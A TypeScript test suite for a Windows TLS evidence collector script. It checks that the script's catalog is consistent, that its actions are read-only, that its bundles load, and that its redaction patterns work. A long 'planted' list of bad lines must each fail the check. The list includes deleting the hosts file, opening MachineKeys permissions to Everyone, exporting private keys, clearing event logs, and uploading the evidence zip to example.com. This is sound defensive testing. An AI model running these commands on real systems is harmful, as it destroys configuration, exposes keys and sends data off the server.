/**
 * The collector (collectors/Collect-TlsEvidence.ps1) checked without PowerShell: its catalog
 * equals collectors/artifacts.json, its syntax tree shows nothing that writes to the system or the
 * network (and a planted write fails the check), and a bundle laid out exactly as it writes one is
 * read and analyzed cleanly.
 */
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, readdirSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative, sep } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { analyze } from '../analyze.js';
import { catalog } from '../artifacts/catalog.js';
import { loadBundle } from '../artifacts/load.js';
import { parseManifest } from '../bundle/manifest.js';
import { openInputs } from '../bundle/open.js';
import {
  SCRIPT_ENTRY_KEYS,
  buildCollectorBundle,
  zipBundle,
} from '../test-support/collector-bundle.js';
import {
  extractCatalogBlock,
  parseCatalogBlock,
  renderCatalogBlock,
  scriptVersion,
} from './catalog-block.js';
import { TOOL_FORMS, checkScript, type CheckReport, type ViolationCode } from './check.js';
import { COLLECTOR_FILE_NAMES, collectorFiles } from './export.js';

const root = new URL('../../', import.meta.url);
const scriptText = readFileSync(new URL('collectors/Collect-TlsEvidence.ps1', root), 'utf8');
const artifactsJson = JSON.parse(
  readFileSync(new URL('collectors/artifacts.json', root), 'utf8'),
) as { artifacts: { id: string }[] };

let report: CheckReport;
beforeAll(async () => {
  report = await checkScript(scriptText);
}, 60_000);

/** Literal ids the script passes to Invoke-Step -Ids (the artifacts it produces). */
function producedIds(source: string): Set<string> {
  const ids = new Set<string>();
  for (const m of source.matchAll(/Invoke-Step -Ids @\(([^)]*)\)/g)) {
    for (const q of m[1]!.matchAll(/'([^']+)'/g)) ids.add(q[1]!);
  }
  return ids;
}

function ruleFiles(dir: URL): string[] {
  const out: string[] = [];
  const walk = (d: string): void => {
    for (const name of readdirSync(d)) {
      const full = join(d, name);
      if (statSync(full).isDirectory()) walk(full);
      else if (
        name.endsWith('.json') &&
        !name.endsWith('.cases.json') &&
        name !== 'rule.schema.json'
      )
        out.push(full);
    }
  };
  walk(dir.pathname);
  return out;
}

describe('collector catalog', () => {
  it('embeds exactly the block generated from collectors/artifacts.json', () => {
    expect(extractCatalogBlock(scriptText)).toBe(renderCatalogBlock(catalog()));
  });

  it('reports the package version as its collector version', () => {
    const pkg = JSON.parse(readFileSync(new URL('package.json', root), 'utf8')) as {
      version: string;
    };
    expect(scriptVersion(scriptText)).toBe(pkg.version);
  });

  it('parses back to the same entries as collectors/artifacts.json', () => {
    const block = extractCatalogBlock(scriptText);
    expect(block).not.toBeNull();
    expect(parseCatalogBlock(block!)).toEqual(artifactsJson.artifacts);
  });

  it('produces every catalog id in one of its steps, and no id outside the catalog', () => {
    const ids = catalog().map((c) => c.id);
    const produced = producedIds(scriptText);
    expect([...produced].sort()).toEqual([...ids].sort());
    const mentioned = new Set([...scriptText.matchAll(/-Id '([^']+)'/g)].map((m) => m[1]!));
    for (const id of mentioned) expect(ids).toContain(id);
  });

  it('produces every artifact id that a rule requires', () => {
    const produced = producedIds(scriptText);
    const required = new Set<string>();
    for (const f of ruleFiles(new URL('rules/', root))) {
      const rule = JSON.parse(readFileSync(f, 'utf8')) as { requires?: (string | string[])[] };
      for (const r of rule.requires ?? []) for (const id of [r].flat()) required.add(id);
    }
    const missing = [...required].filter((id) => !produced.has(id));
    expect(missing).toEqual([]);
  });

  it('keeps the samples in the layout the collector writes (catalog paths per id)', () => {
    const samplesDir = new URL('samples/', root);
    for (const name of readdirSync(samplesDir)) {
      const manifestUrl = new URL(`${name}/manifest.json`, samplesDir);
      let text: string;
      try {
        text = readFileSync(manifestUrl, 'utf8');
      } catch {
        continue;
      }
      const { manifest } = parseManifest(text);
      for (const a of manifest?.artifacts ?? []) {
        const c = catalog().find((e) => e.id === a.id);
        expect(c, `${name}: unknown artifact id ${a.id}`).toBeDefined();
        if (c!.path.endsWith('/'))
          expect(a.path.startsWith(c!.path), `${name}: ${a.path}`).toBe(true);
        else expect(a.path, `${name}: ${a.id}`).toBe(c!.path);
      }
    }
  });
});

describe('collector script text', () => {
  it('is plain ASCII, so PowerShell 5.1 reads it the same without a BOM', () => {
    expect([...scriptText].filter((ch) => ch.charCodeAt(0) > 0x7e && ch !== '\u00a0')).toEqual([]);
  });

  it('runs under the read-only tool table it checks at run time, for every static tool call', () => {
    const table = /\$script:ReadOnlyTools = @\{([\s\S]*?)\n\}/.exec(scriptText);
    expect(table).not.toBeNull();
    const patterns = new Map(
      [...table![1]!.matchAll(/'([a-z0-9]+)'\s*=\s*'((?:[^']|'')*)'/g)].map((m) => [
        m[1]!,
        new RegExp(m[2]!.replace(/''/g, "'"), 'i'),
      ]),
    );
    expect([...patterns.keys()].sort()).toEqual(Object.keys(TOOL_FORMS).sort());
    for (const t of report.tools) {
      const sample = t.args.map((a) => (a === '*' ? 'C:\\x\\y.txt' : a.replace(/\s/g, '_')));
      // `*` stands for a path or number; give wevtutil / pktmon the shapes they expect
      const shaped = sample.map((a, i) =>
        t.args[i] === '*' && /^(gl|qe)$/.test(t.args[0]!) && i === 2
          ? '/q:*[System]'
          : t.args[i] === '*' && t.tool === 'wevtutil' && i === 7
            ? '/c:2000'
            : t.args[i] === '*' && t.tool === 'pktmon' && t.args[1] === 'add' && i === 2
              ? 'tls-doctor-443'
              : t.args[i] === '*' && t.tool === 'pktmon' && t.args[1] === 'add'
                ? '443'
                : t.args[i] === '*' && t.tool === 'pktmon' && t.args[i - 1] === '--file-size'
                  ? '512'
                  : t.args[i] === '*' && t.tool === 'netsh' && t.args[0] === 'trace' && i === 5
                    ? 'maxsize=512'
                    : t.args[i] === '*' && t.tool === 'netsh' && t.args[0] === 'trace' && i === 6
                      ? 'tracefile=C:\\x\\nettrace.etl'
                      : a,
      );
      expect(shaped.join(' '), `${t.tool} at line ${t.line}`).toMatch(patterns.get(t.tool)!);
    }
  });
});

describe('collector static check', () => {
  it('parses without syntax errors and finds no violation', () => {
    expect(report.violations).toEqual([]);
  });

  it('lists every command and tool the script runs (review any change here)', () => {
    const cmdlets = [
      ...new Set(report.commands.filter((c) => c.kind === 'cmdlet').map((c) => c.name)),
    ].sort();
    expect(cmdlets).toEqual([
      'Add-Type',
      'ConvertTo-Json',
      'ForEach-Object',
      'Format-List',
      'Get-Acl',
      'Get-ChildItem',
      'Get-CimInstance',
      'Get-Command',
      'Get-Date',
      'Get-EtwTraceSession',
      'Get-Item',
      'Get-ItemProperty',
      'Get-Location',
      'Get-NetTCPConnection',
      'Get-NetUDPEndpoint',
      'Get-Process',
      'Get-Service',
      'Get-TlsCipherSuite',
      'Get-TlsEccCurve',
      'Get-UICulture',
      'Import-Module',
      'Join-Path',
      'New-Object',
      'Out-String',
      'Remove-Item',
      'Select-Object',
      'Set-StrictMode',
      'Sort-Object',
      'Start-Sleep',
      'Test-Path',
      'Where-Object',
      'Write-Host',
      'Write-Verbose',
    ]);
    const tools = [...new Set(report.tools.map((t) => `${t.tool} ${t.args.join(' ')}`))].sort();
    expect(tools).toEqual([
      'appcmd list site',
      'appcmd list site /config /xml',
      'certutil -v -store my',
      'icacls *',
      'netsh http show iplisten',
      'netsh http show servicestate',
      'netsh http show sslcert',
      'netsh trace start capture=yes report=disabled correlation=disabled * *',
      'netsh trace stop',
      'netstat -ano',
      'netstat -anob',
      'pktmon etl2pcap * --out *',
      'pktmon filter add * -t TCP -p *',
      'pktmon filter list',
      'pktmon filter remove',
      'pktmon start --capture --comp nics --pkt-size 0 --file-size * --file-name *',
      'pktmon stop',
      'pktmon unload',
      'reg export * * /y',
      'tasklist /svc /fo csv',
      'w32tm /query /status /verbose',
      'wevtutil gl *',
      'wevtutil qe * * /f:xml /e:Events /rd:true /uni:true *',
    ]);
    // The capture tools run only in the opt-in capture and its clean-up.
    const capture = report.tools.filter(
      (t) => t.tool === 'pktmon' || (t.tool === 'netsh' && t.args[0] === 'trace'),
    );
    expect(capture.length).toBeGreaterThan(5);
    for (const t of capture)
      expect(['Invoke-PacketCapture', 'Stop-PacketCapture']).toContain(t.inFunction);
  });

  it('writes files only from the writer functions', () => {
    const writers = report.methods
      .filter((m) => /^io\.(file|directory)::(write|create|copy|open$|delete|move)/i.test(m.name))
      // Read-LogTail's open is for reading (FileAccess Read): held by the tests below
      .filter((m) => !(m.inFunction === 'Read-LogTail' && /::open$/i.test(m.name)))
      .map((m) => m.inFunction);
    expect(new Set(writers)).toEqual(
      new Set([
        'Initialize-OutputRoot',
        'New-OutputFolder',
        'Write-OutputBytes',
        'Copy-IntoOutput',
        'Write-BesideOutput',
        'New-EvidenceZip',
      ]),
    );
  });

  const planted: [string, ViolationCode][] = [
    [
      "Remove-Item -LiteralPath 'C:\\Windows\\System32\\drivers\\etc\\hosts' -Force",
      'file-write-outside-output',
    ],
    ['New-Item -ItemType Directory -Path C:\\Windows\\Temp\\x', 'file-write-outside-output'],
    ["'x' | Out-File C:\\x.txt", 'file-write-outside-output'],
    ['"x" > C:\\x.txt', 'file-write-outside-output'],
    ["[System.IO.File]::WriteAllText('C:\\Windows\\win.ini', 'x')", 'file-write-outside-output'],
    ['(Get-Item C:\\x.txt).Delete()', 'file-write-outside-output'],
    [
      "Set-ItemProperty -Path 'HKLM:\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\SCHANNEL' -Name EventLogging -Value 7",
      'system-write',
    ],
    ['Stop-Service W3SVC', 'system-write'],
    ["[Microsoft.Win32.Registry]::LocalMachine.CreateSubKey('SOFTWARE\\x')", 'system-write'],
    ['netsh http delete sslcert ipport=0.0.0.0:443', 'system-write'],
    [
      'netsh http add sslcert ipport=0.0.0.0:443 certhash=00 appid={00000000-0000-0000-0000-000000000000}',
      'system-write',
    ],
    ['certutil -repairstore my 0123456789abcdef', 'system-write'],
    ['certutil -addstore root C:\\x.cer', 'system-write'],
    ['certutil -delstore my 0123456789abcdef', 'system-write'],
    ['certutil -importpfx C:\\x.pfx', 'system-write'],
    ['reg add HKLM\\SOFTWARE\\x /v y /d 1 /f', 'system-write'],
    ['reg delete HKLM\\SOFTWARE\\x /f', 'system-write'],
    ['reg import C:\\x.reg', 'system-write'],
    ['wevtutil cl System', 'system-write'],
    [
      'icacls C:\\ProgramData\\Microsoft\\Crypto\\RSA\\MachineKeys /grant Everyone:F',
      'system-write',
    ],
    [
      "Save-ToolOutput -Id 'httpsys.sslcert' -Tool 'netsh' -Arguments @('http', 'delete', 'sslcert', 'ipport=0.0.0.0:443')",
      'system-write',
    ],
    ["Invoke-Tool -Tool 'certutil' -Arguments @('-importpfx', $f)", 'system-write'],
    ["Invoke-Tool -Tool 'netsh' -Arguments @('http', 'show', $what)", 'native-tool-not-read-only'],
    ["Invoke-Tool -Tool $tool -Arguments @('x')", 'native-tool-not-read-only'],
    ["Invoke-Tool -Tool 'pktmon' -Arguments @('stop')", 'system-write'],
    ['netsh http show sslcert', 'native-tool-direct'],
    ['& reg.exe query HKLM\\SOFTWARE', 'native-tool-direct'],
    ['Export-PfxCertificate -Cert $c -FilePath C:\\x.pfx -Password $p', 'private-key-export'],
    ['certutil -exportPFX my 0123456789abcdef C:\\x.pfx', 'private-key-export'],
    [
      '$b = $c.Export([System.Security.Cryptography.X509Certificates.X509ContentType]::Pfx)',
      'private-key-export',
    ],
    ['$p = $k.ExportParameters($true)', 'private-key-export'],
    ['$x = $k.ToXmlString($true)', 'private-key-export'],
    [
      '$b = $k.Key.Export([System.Security.Cryptography.CngKeyBlobFormat]::Pkcs8PrivateBlob)',
      'private-key-export',
    ],
    ['Invoke-WebRequest -Uri https://example.com/upload -Method Post -InFile $zip', 'network-call'],
    ['Invoke-RestMethod https://example.com', 'network-call'],
    ["(New-Object System.Net.WebClient).UploadFile('https://example.com', $zip)", 'network-call'],
    ["$c = [System.Net.Sockets.TcpClient]::new('example.com', 443)", 'network-call'],
    ['Resolve-DnsName example.com', 'network-call'],
    ['Get-CimInstance Win32_OperatingSystem -ComputerName other-server', 'network-call'],
    ['Invoke-Expression $cmd', 'dynamic-execution'],
    ["Start-Process cmd.exe -ArgumentList '/c del C:\\x'", 'dynamic-execution'],
    ['& $cmd', 'dynamic-execution'],
    ['$sb = [scriptblock]::Create($text)', 'dynamic-execution'],
    ["Add-Type -TypeDefinition 'public class X {}'", 'dynamic-execution'],
    ['del C:\\x.txt', 'native-tool-direct'],
    ['Set-Acl -Path C:\\x -AclObject $acl', 'system-write'],
    ['Frobnicate-Server', 'unreviewed-command'],
    [
      '$x = [System.Security.Cryptography.X509Certificates.X509Store]::new("My", "LocalMachine")',
      'private-key-export',
    ],
    ['$b = [byte[]]::new(4)', 'incompatible-syntax'],
    ['class Foo { [int]$X }', 'incompatible-syntax'],
    ['Get-Date && Get-Date', 'incompatible-syntax'],
    ['Write-Host "done $(Remove-Item C:\\x -Force)"', 'file-write-outside-output'],
    ['$t = @"\nsummary $(netsh http delete sslcert ipport=0.0.0.0:443)\n"@', 'system-write'],
    ["[Environment]::SetEnvironmentVariable('X', '1', 'Machine')", 'system-change-method'],
    ['[Environment]::Exit(0)', 'system-change-method'],
    ["Invoke-Tool -Tool 'icacls' -Arguments $list", 'native-tool-not-read-only'],
    ["(Get-Item 'C:\\Windows\\win.ini').IsReadOnly = $true", 'system-write'],
    ["$f = (Get-Item 'C:\\x.txt').OpenWrite()", 'file-write-outside-output'],
    ["$ExecutionContext.InvokeCommand.InvokeScript('Remove-Item C:\\x')", 'dynamic-execution'],
  ];

  it.each(planted)(
    'fails when the script gains: %s',
    async (line, code) => {
      const bad = scriptText.replace(/\n# Main\n/, `\n# Main\n${line}\n`);
      expect(bad).not.toBe(scriptText);
      const r = await checkScript(bad);
      expect(r.violations.map((v) => v.code)).toContain(code);
    },
    30_000,
  );

  it('fails when a planted write sits inside a function too', async () => {
    const bad = scriptText.replace(
      /function Save-KeyAcls \{\n/,
      "function Save-KeyAcls {\n    Remove-Item -LiteralPath 'C:\\inetpub\\wwwroot' -Recurse -Force\n",
    );
    const r = await checkScript(bad);
    expect(r.violations).toMatchObject([{ code: 'file-write-outside-output' }]);
  });

  // HTTP.sys / IIS logs (issue 16): the one read-only open, only in Read-LogTail, only for reading
  it.each([
    ['FileAccess]::Read,', 'FileAccess]::ReadWrite,'],
    ['FileMode]::Open,', 'FileMode]::OpenOrCreate,'],
  ])('fails when Read-LogTail opens a log other than read-only (%s → %s)', async (from, to) => {
    const bad = scriptText.replace(
      `[System.IO.File]::Open($Path, [System.IO.FileMode]::Open, [System.IO.FileAccess]::Read, [System.IO.FileShare]::ReadWrite)`,
      `[System.IO.File]::Open($Path, [System.IO.FileMode]::Open, [System.IO.FileAccess]::Read, [System.IO.FileShare]::ReadWrite)`.replace(
        from,
        to,
      ),
    );
    expect(bad).not.toBe(scriptText);
    const r = await checkScript(bad);
    expect(r.violations.map((v) => v.code)).toContain('file-write-outside-output');
  });

  it('fails when the read-only open of a log appears outside Read-LogTail', async () => {
    const bad = scriptText.replace(
      /\n# Main\n/,
      "\n# Main\n$s = [System.IO.File]::Open('C:\\x.log', [System.IO.FileMode]::Open, [System.IO.FileAccess]::Read, [System.IO.FileShare]::ReadWrite)\n",
    );
    expect(bad).not.toBe(scriptText);
    const r = await checkScript(bad);
    expect(r.violations.map((v) => v.code)).toContain('file-write-outside-output');
  });

  it('fails when a writer function writes to a path Assert-OutputPath did not return', async () => {
    const bad = scriptText.replace(
      '[System.IO.File]::WriteAllBytes($full, $Bytes)',
      '[System.IO.File]::WriteAllBytes($RelativePath, $Bytes)',
    );
    expect(bad).not.toBe(scriptText);
    const r = await checkScript(bad);
    expect(r.violations).toMatchObject([{ code: 'file-write-outside-output' }]);
  });

  it('fails when a writer function stops calling Assert-OutputPath', async () => {
    const bad = scriptText.replace(
      '$full = Assert-OutputPath -Path (Join-Path $script:OutParent $FileName) -AllowParent',
      '$full = Join-Path $script:OutParent $FileName',
    );
    expect(bad).not.toBe(scriptText);
    const r = await checkScript(bad);
    expect(r.violations.map((v) => v.code)).toContain('file-write-outside-output');
  });

  it('fails on a syntax error', async () => {
    const r = await checkScript(scriptText.replace(/\n# Main\n/, '\n# Main\nif ($x { \n'));
    expect(r.violations.map((v) => v.code)).toContain('parse-error');
  });
});

describe('bundle written as the collector writes it', () => {
  let dir: string;
  let zipPath: string;
  let files: string[];
  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'tls-doctor-collector-'));
    buildCollectorBundle(join(dir, 'bundle'), { withCapture: true });
    files = [];
    const walk = (d: string): void => {
      for (const n of readdirSync(d)) {
        const full = join(d, n);
        if (statSync(full).isDirectory()) walk(full);
        else files.push(relative(join(dir, 'bundle'), full).split(sep).join('/'));
      }
    };
    walk(join(dir, 'bundle'));
    zipPath = join(dir, 'tls-evidence-WEB01-20261120-091402.zip');
    zipBundle(join(dir, 'bundle'), zipPath, files);
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('uses only the manifest entry fields the script writes', () => {
    // Keys the script sets on an entry: Add-Entry's [ordered]@{…} and $e.<key> = … assignments.
    const keys = new Set<string>(['id', 'path', 'status']);
    for (const m of scriptText.matchAll(/\$e\.([A-Za-z0-9_]+) = /g)) keys.add(m[1]!);
    keys.delete('_files');
    expect([...keys].sort()).toEqual([...SCRIPT_ENTRY_KEYS].sort());
  });

  it('uses the manifest and host fields the script writes', () => {
    const built = buildCollectorBundle(join(dir, 'again')) as Record<string, unknown>;
    const save = /function Save-Manifest \{[\s\S]*?\$m = \[ordered\]@\{([\s\S]*?)\n {4}\}/.exec(
      scriptText,
    );
    expect(save).not.toBeNull();
    const top = [...save![1]!.matchAll(/^\s{8}([a-zA-Z]+)\s+=/gm)].map((m) => m[1]!);
    expect(top.sort()).toEqual(Object.keys(built).sort());
    const hostFn = /function Get-HostInfo \{([\s\S]*?)\n\}/.exec(scriptText);
    const hostKeys = new Set(
      [...hostFn![1]!.matchAll(/\$info\.([a-zA-Z]+) = /g)].map((m) => m[1]!),
    );
    expect([...hostKeys].sort()).toEqual(Object.keys(built['host'] as object).sort());
  });

  it('opens as zip and as folder with the same paths, nothing skipped', () => {
    const z = openInputs([zipPath]);
    const f = openInputs([join(dir, 'bundle')]);
    expect(z.skipped).toEqual([]);
    expect(f.skipped).toEqual([]);
    expect(z.files.map((x) => x.path).sort()).toEqual(f.files.map((x) => x.path).sort());
    expect(z.files.every((x) => !x.path.includes('\\'))).toBe(true);
  });

  it('has a manifest the analyzer reads without issues, one entry per catalog id', () => {
    const z = openInputs([zipPath]);
    const m = z.files.find((x) => x.path === 'manifest.json')!;
    const { manifest, issues } = parseManifest(m.read().toString('utf8'));
    expect(issues).toEqual([]);
    expect(manifest!.artifacts.map((a) => a.id).sort()).toEqual(
      catalog()
        .map((c) => c.id)
        .sort(),
    );
    expect(manifest!.host).toMatchObject({ name: 'WEB01', osBuild: 20348, elevated: true });
  });

  it('loads with every file recognised and every collected artifact parsed', () => {
    const parsed = loadBundle(openInputs([zipPath]));
    expect(parsed.manifestIssues).toEqual([]);
    expect(parsed.unrecognized).toEqual([]);
    const bad = parsed.artifacts
      .filter((a) => a.manifest?.status === 'collected')
      .filter((a) => a.status !== 'parsed')
      // an artifact the analyzer has no parser for yet is kept as evidence only
      .filter((a) => !a.files.every((f) => f.issues.some((i) => i.code === 'no-parser')))
      .map((a) => ({
        id: a.id,
        status: a.status,
        reason: a.reason,
        errors: a.files.flatMap((f) => f.issues.filter((i) => i.severity === 'error')),
      }));
    expect(bad).toEqual([]);
  });

  it('analyzes cleanly: every rule requirement the bundle meets is evaluated', async () => {
    const result = await analyze([zipPath]);
    expect(result.parsed.unrecognized).toEqual([]);
    expect(result.facts.host).toMatchObject({ name: 'WEB01' });
    // A complete bundle meets every rule's requirements: nothing is NOT EVALUATED for missing
    // evidence. A rule may still be undecided for an entity its evidence cannot settle (e.g. a
    // CAPI2 chain error on a certificate that is not bound): it is listed, never passed.
    const ne = result.evaluation.notEvaluated;
    expect(ne.filter((n) => n.missing.length > 0)).toEqual([]);
    expect(ne.every((n) => (n.unknownFor ?? []).length > 0)).toBe(true);
    const undecided = ne.filter((n) => !result.evaluation.evaluated.includes(n.ruleId));
    expect(result.evaluation.evaluated.length + undecided.length).toBe(result.rules.length);
  });
});

describe('tls-doctor collector (export)', () => {
  it('ships the script, the .cmd wrapper and the README', () => {
    const files = collectorFiles();
    expect(files.map((f) => f.name)).toEqual([...COLLECTOR_FILE_NAMES]);
    expect(files.find((f) => f.name === 'Collect-TlsEvidence.ps1')!.content.toString('utf8')).toBe(
      scriptText,
    );
  });

  it('is written by `tls-doctor collector --out DIR`, which refuses to overwrite without --force', () => {
    const out = mkdtempSync(join(tmpdir(), 'tls-doctor-collector-out-'));
    try {
      const tsx = pathToFileURL(new URL('node_modules/tsx/dist/loader.mjs', root).pathname).href;
      const run = (...args: string[]) =>
        spawnSync(
          process.execPath,
          ['--import', tsx, new URL('src/cli.ts', root).pathname, 'collector', ...args],
          { encoding: 'utf8', timeout: 60_000 },
        );
      const first = run('--out', join(out, 'kit'));
      expect(first.status, first.stderr).toBe(0);
      for (const f of collectorFiles()) {
        expect(readFileSync(join(out, 'kit', f.name)).equals(f.content)).toBe(true);
        expect(first.stderr).toContain(f.sha256);
      }
      expect(run('--out', join(out, 'kit')).status).toBe(2);
      expect(run('--out', join(out, 'kit'), '--force').status).toBe(0);
    } finally {
      rmSync(out, { recursive: true, force: true });
    }
  }, 120_000);

  it('has a .cmd wrapper with CRLF line ends that bypasses the execution policy for this run only', () => {
    const cmd = collectorFiles()
      .find((f) => f.name === 'collect.cmd')!
      .content.toString('latin1');
    expect(cmd.split('\r\n').length).toBeGreaterThan(5);
    expect(cmd.replace(/\r\n/g, '')).not.toMatch(/\n/);
    expect(cmd).toMatch(/-ExecutionPolicy Bypass -File "%~dp0Collect-TlsEvidence\.ps1" %\*/);
  });

  it('has a README in English and Simplified Chinese that says what leaves the server', () => {
    const readme = collectorFiles()
      .find((f) => f.name === 'README.md')!
      .content.toString('utf8');
    for (const heading of [
      '## English',
      '## 简体中文',
      '### What it collects',
      '### What it never collects or does',
      '### What leaves the server',
      '### 收集哪些内容',
      '### 绝不收集、绝不执行的操作',
      '### 哪些内容会离开服务器',
    ]) {
      expect(readme).toContain(heading);
    }
  });
});

describe("collector redaction patterns (the script's .NET regexes, run here)", () => {
  // .NET and JavaScript agree on the constructs used (lookbehind, classes, quantifiers); the
  // inline (?i) of .NET becomes the `i` flag.
  const toJs = (psLiteral: string): RegExp => {
    const src = psLiteral.replace(/''/g, "'");
    const ci = src.startsWith('(?i)');
    return new RegExp(ci ? src.slice(4) : src, ci ? 'gi' : 'g');
  };
  const literals = [...scriptText.matchAll(/\[regex\]::Replace\(\$Text, '((?:[^']|'')*)',/g)].map(
    (m) => m[1]!,
  );
  const find = (needle: string): RegExp => {
    const lit = literals.find((l) => l.includes(needle));
    expect(lit, needle).toBeDefined();
    return toJs(lit!);
  };
  const all = (re: RegExp, text: string): string[] => [...text.matchAll(re)].map((m) => m[0]);

  it('finds IPv4 addresses but not OIDs, versions or build numbers', () => {
    const ipv4 = find('(\\d{1,3})\\.(\\d{1,3})');
    expect(all(ipv4, 'IP:port : 10.1.2.3:443 and [::ffff:192.168.7.9]:8443')).toEqual([
      '10.1.2.3',
      '192.168.7.9',
    ]);
    expect(all(ipv4, 'EKU 1.3.6.1.5.5.7.3.1 build 10.0.17763.5122')).toEqual([]);
    expect(all(ipv4, 'Version=4.0.0.0, version="2.0.0.0"')).toEqual([]);
  });

  it('finds IPv6 candidates (validated by IPAddress.TryParse in the script)', () => {
    const ipv6 = find('[0-9A-Fa-f]{0,4}:){2,7}');
    expect(all(ipv6, 'TCP [fe80::1c2d:3e4f%12]:443 [::]:443 2001:db8:1::7')).toEqual([
      'fe80::1c2d:3e4f%12',
      '::',
      '2001:db8:1::7',
    ]);
    expect(all(ipv6, 'IP:port : 10.1.2.3:443')).toEqual([]);
  });

  it('finds DOMAIN\\user accounts, leaving the account structure intact', () => {
    const user = find('\\\\([A-Za-z0-9._$-]{1,64})');
    const m = [...'  CONTOSO\\svc-web:(R)\n  NT AUTHORITY\\SYSTEM:(F)'.matchAll(user)];
    expect(m.map((x) => [x[1], x[2]])).toEqual([
      ['CONTOSO', 'svc-web'],
      ['AUTHORITY', 'SYSTEM'],
    ]);
  });

  it('matches host names under a known domain label by label, wildcards included', () => {
    const parts = /\$pattern = '((?:[^']|'')*)' \+ \$alt \+ '((?:[^']|'')*)'/.exec(scriptText);
    expect(parts).not.toBeNull();
    const re = toJs(`${parts![1]!}contoso\\.com${parts![2]!}`);
    expect(all(re, 'CN=www.contoso.com, *.contoso.com, pay.eu.contoso.com:443')).toEqual([
      'www.contoso.com',
      '*.contoso.com',
      'pay.eu.contoso.com',
    ]);
    expect(all(re, 'notcontoso.com contoso.community')).toEqual([]);
  });

  it('removes passwords from applicationHost.config, attributes and connection strings', () => {
    const pw = [
      ...scriptText.matchAll(/\[regex\]::Replace\(\$Text, '((?:[^']|'')*)', '((?:[^']|'')*)'\)/g),
    ];
    expect(pw).toHaveLength(2);
    let xml =
      '<processModel userName="CONTOSO\\svc" password="[enc:IISWASOnlyCngProvider:abc=:enc]" />\n' +
      '<add name="db" connectionString="Server=.;User Id=sa;Password=s3cret;Pwd = x2" />';
    for (const m of pw) xml = xml.replace(toJs(m[1]!), m[2]!.replace(/\$\{(\d)\}/g, '$$$1'));
    expect(xml).not.toMatch(/enc:IISWASOnlyCngProvider|s3cret|x2/);
    expect(xml).toContain('password="[removed by collector]"');
    expect(xml).toContain('Password=[removed by collector];');
  });

  it('finds REG_MULTI_SZ values (ListenOnlyList) across reg export line wraps', () => {
    const hex = [
      ...scriptText.matchAll(/\[regex\]::Replace\(\$Text, '((?:[^']|'')*hex\\\((?:[^']|'')*)',/g),
    ];
    expect(hex).toHaveLength(1);
    const re = toJs(hex[0]![1]!);
    const reg =
      '"ListenOnlyList"=hex(7):31,00,30,00,2e,00,30,00,2e,00,30,00,2e,00,35,00,00,00,\\\r\n  00,00\r\n"Other"=dword:00000001\r\n';
    const m = [...reg.matchAll(re)];
    expect(m).toHaveLength(1);
    expect(m[0]![2]!.match(/[0-9a-f]{2}/gi)).toHaveLength(20);
  });
});
